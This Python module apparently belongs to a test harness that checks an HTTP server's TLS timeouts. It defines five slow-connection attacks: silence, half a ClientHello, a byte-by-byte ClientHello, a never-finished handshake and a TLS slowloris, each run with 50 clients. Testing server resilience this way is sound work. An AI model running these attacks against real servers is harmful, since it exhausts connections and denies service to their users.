"""Attacks below HTTP: TLS handshakes that do not come to an end."""

import itertools
import ssl
from typing import Final

from support.carrier import HTTP1_TLS

from .attack import Attack, Target, client_context
from .intruder import Http1Intruder


def client_hello() -> bytes:
    """Return the first message of a real client."""
    outgoing = ssl.MemoryBIO()
    tls = client_context("h2").wrap_bio(ssl.MemoryBIO(), outgoing)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()
    raise AssertionError("a handshake takes two")


async def say_nothing(target: Target) -> str:
    return await Http1Intruder(await target.connect_bare()).provoke(seconds=target.patience)


async def say_half(target: Target) -> str:
    hello = client_hello()
    intruder = Http1Intruder(await target.connect_bare())
    return await intruder.provoke([hello[: len(hello) // 2]], seconds=target.patience)


async def say_it_slowly(target: Target) -> str:
    pieces = (bytes([byte]) for byte in client_hello())
    intruder = Http1Intruder(await target.connect_bare())
    return await intruder.provoke(pieces, pause=0.4, seconds=target.patience)


async def never_finish(target: Target) -> str:
    intruder = Http1Intruder(await target.connect_bare())
    return await intruder.provoke([client_hello()], seconds=target.patience)


async def be_slow_after_it(target: Target) -> str:
    head = itertools.chain(b"GET / HTTP/1.1\r\nx: ", itertools.repeat(ord("a")))
    intruder = Http1Intruder(await target.connect())
    return await intruder.provoke((bytes([byte]) for byte in head), pause=1, seconds=target.patience)


_TIME: Final = ("handshake_timeout",)

ATTACKS: Final = (
    Attack("tls-silence", "no ClientHello", HTTP1_TLS, _TIME, say_nothing, clients=50, waits=True),
    Attack("tls-half-hello", "half a ClientHello", HTTP1_TLS, _TIME, say_half, clients=50, waits=True),
    Attack(
        "tls-slow-hello",
        "a ClientHello byte by byte",
        HTTP1_TLS,
        _TIME,
        say_it_slowly,
        clients=50,
        waits=True,
    ),
    Attack(
        "tls-unfinished",
        "a handshake that is never finished",
        HTTP1_TLS,
        _TIME,
        never_finish,
        clients=50,
        waits=True,
    ),
    Attack(
        "tls-slowloris",
        "a request head over TLS, a byte a second",
        HTTP1_TLS,
        ("head_timeout",),
        be_slow_after_it,
        clients=50,
        waits=True,
    ),
)
